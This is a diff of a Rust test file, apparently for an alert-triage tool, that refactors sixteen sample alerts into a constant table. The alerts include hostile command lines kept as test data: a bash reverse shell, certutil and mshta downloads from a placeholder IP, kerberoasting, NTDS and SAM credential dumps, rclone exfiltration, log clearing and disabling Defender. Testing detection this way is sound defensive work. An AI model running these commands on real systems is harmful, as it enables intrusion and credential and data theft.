@@ -18,6 +18,7 @@ struct Case {
 
 const VERDICTS: [&str; 5] = ["CRITICAL", "HIGH", "MEDIUM", "LOW", "BENIGN"];
 const ALARM: &[&str] = &["CRITICAL", "HIGH"];
+const NOT_QUIET: &[&str] = &["CRITICAL", "HIGH", "MEDIUM"];
 const QUIET: &[&str] = &["LOW", "BENIGN"];
 
 /// Posts a case and reads what the command line says of it.
@@ -219,106 +220,128 @@ fn known() -> Vec<Case> {
     ]
 }
 
-/// Alerts as they come in real life, thought of without looking at the rules.
+/// Alerts as they come in real life, thought of without looking at the rules: name, command line,
+/// the vendor's severity, user, fair verdicts.
+const UNSEEN: [(&str, &str, &str, &str, &[&str]); 16] = [
+    (
+        "kerberoasting with Rubeus",
+        "Rubeus.exe kerberoast /outfile:h.txt",
+        "HIGH",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "the directory database copied",
+        r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Temp\x" q q"#,
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "SAM hive saved",
+        r"reg.exe save HKLM\SAM C:\Users\Public\s.hiv",
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "certutil as a downloader",
+        r"certutil.exe -urlcache -split -f http://203.0.113.9/p.txt C:\ProgramData\p.exe",
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "mshta with a remote script",
+        "mshta.exe https://203.0.113.9/a.hta",
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "boot recovery turned off",
+        "bcdedit.exe /set {default} recoveryenabled No",
+        "HIGH",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "event log cleared",
+        "wevtutil.exe cl Security",
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "a new administrator",
+        "net.exe localgroup administrators helpdesk2 /add",
+        "MEDIUM",
+        "jdoe",
+        NOT_QUIET,
+    ),
+    (
+        "reverse shell in bash",
+        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+        "HIGH",
+        "www-data",
+        ALARM,
+    ),
+    (
+        "cloud sync of a share by rclone",
+        r"rclone.exe copy \\FS01\Finance mega:loot --transfers 16",
+        "MEDIUM",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "Defender turned off",
+        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
+        "HIGH",
+        "jdoe",
+        ALARM,
+    ),
+    (
+        "a scheduled task from a temp folder",
+        r"schtasks.exe /create /sc minute /mo 5 /tn Upd /tr C:\Users\jdoe\AppData\Local\Temp\u.exe",
+        "MEDIUM",
+        "jdoe",
+        NOT_QUIET,
+    ),
+    (
+        "a person looks at addresses",
+        "ipconfig.exe /all",
+        "LOW",
+        "jdoe",
+        QUIET,
+    ),
+    (
+        "a database backup",
+        r"sqlcmd.exe -Q BACKUP DATABASE erp TO DISK='E:\bak\erp.bak'",
+        "LOW",
+        "svc_sql",
+        QUIET,
+    ),
+    (
+        "an update of a browser",
+        r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /svc",
+        "INFORMATIONAL",
+        "SYSTEM",
+        QUIET,
+    ),
+    (
+        "a build",
+        r"C:\tools\cmake.exe --build . --config Release",
+        "INFORMATIONAL",
+        "ci",
+        QUIET,
+    ),
+];
+
 fn unseen() -> Vec<Case> {
-    let mut cases = vec![
-        case(
-            "kerberoasting with Rubeus",
-            "Rubeus.exe kerberoast /outfile:h.txt",
-            ("HIGH", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "the directory database copied",
-            r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Temp\x" q q"#,
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "SAM hive saved",
-            r"reg.exe save HKLM\SAM C:\Users\Public\s.hiv",
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "certutil as a downloader",
-            r"certutil.exe -urlcache -split -f http://203.0.113.9/p.txt C:\ProgramData\p.exe",
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "mshta with a remote script",
-            "mshta.exe https://203.0.113.9/a.hta",
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "boot recovery turned off",
-            "bcdedit.exe /set {default} recoveryenabled No",
-            ("HIGH", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "event log cleared",
-            "wevtutil.exe cl Security",
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "a new administrator",
-            "net.exe localgroup administrators helpdesk2 /add",
-            ("MEDIUM", "jdoe"),
-            &["CRITICAL", "HIGH", "MEDIUM"],
-        ),
-        case(
-            "reverse shell in bash",
-            "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
-            ("HIGH", "www-data"),
-            ALARM,
-        ),
-        case(
-            "cloud sync of a share by rclone",
-            r"rclone.exe copy \\FS01\Finance mega:loot --transfers 16",
-            ("MEDIUM", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "Defender turned off",
-            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
-            ("HIGH", "jdoe"),
-            ALARM,
-        ),
-        case(
-            "a scheduled task from a temp folder",
-            r"schtasks.exe /create /sc minute /mo 5 /tn Upd /tr C:\Users\jdoe\AppData\Local\Temp\u.exe",
-            ("MEDIUM", "jdoe"),
-            &["CRITICAL", "HIGH", "MEDIUM"],
-        ),
-        case(
-            "a person looks at addresses",
-            "ipconfig.exe /all",
-            ("LOW", "jdoe"),
-            QUIET,
-        ),
-        case(
-            "a database backup",
-            r"sqlcmd.exe -Q BACKUP DATABASE erp TO DISK='E:\bak\erp.bak'",
-            ("LOW", "svc_sql"),
-            QUIET,
-        ),
-        case(
-            "an update of a browser",
-            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /svc",
-            ("INFORMATIONAL", "SYSTEM"),
-            QUIET,
-        ),
-        case(
-            "a build",
-            r"C:\tools\cmake.exe --build . --config Release",
-            ("INFORMATIONAL", "ci"),
-            QUIET,
-        ),
-    ];
+    let mut cases: Vec<Case> = UNSEEN
+        .into_iter()
+        .map(|(name, command, severity, user, fair)| case(name, command, (severity, user), fair))
+        .collect();
     cases.extend(unseen_elsewhere());
     cases
 }
